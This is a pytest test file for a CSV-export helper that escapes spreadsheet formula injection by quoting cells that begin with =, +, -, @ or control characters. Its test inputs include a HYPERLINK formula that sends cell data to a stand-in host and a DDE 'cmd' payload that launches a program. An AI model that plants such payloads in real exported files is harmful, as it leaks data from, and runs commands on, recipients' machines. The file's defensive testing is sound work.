"""CSV formula neutralisation (OWASP CSV injection): risky text gets a quote, numbers do not."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from datos_cali import csvsafe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x.example/?"&A1,"ver")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    assert csvsafe.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1", "+57", "-3.5e2", ".5", "0", "123.45", "-0.0"])
def test_plain_numbers_written_as_text_stay_numbers(cell):
    assert csvsafe.neutralise(cell) == cell


@pytest.mark.parametrize(
    "value", [-1, 2.5, Decimal("-7.25"), None, True, "Cali", "a=b", "correo@cali.gov.co", ""]
)
def test_everything_else_is_unchanged(value):
    assert csvsafe.neutralise(value) == value


def test_the_writer_neutralises_every_row_and_keeps_csv_quoting():
    buffer = io.StringIO()
    out = csvsafe.writer(buffer)
    out.writerow(["=1+1", -4, "-4", 'di "hola", =x'])
    out.writerows([["@a", "b"], ["+c", 1.5]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [
        ["'=1+1", "-4", "-4", 'di "hola", =x'],
        ["'@a", "b"],
        ["'+c", "1.5"],
    ]


def test_carriage_returns_are_quoted_so_rows_never_break():
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow(["a\rb", "\r=1", "c"])
    assert buffer.getvalue() == '"a\rb","\'\r=1",c\r\n'
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["a\rb", "'\r=1", "c"]]
    with pytest.raises(ValueError, match="carriage returns"):
        csvsafe.writer(buffer, lineterminator="\n")
    csvsafe.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)  # safe: all quoted
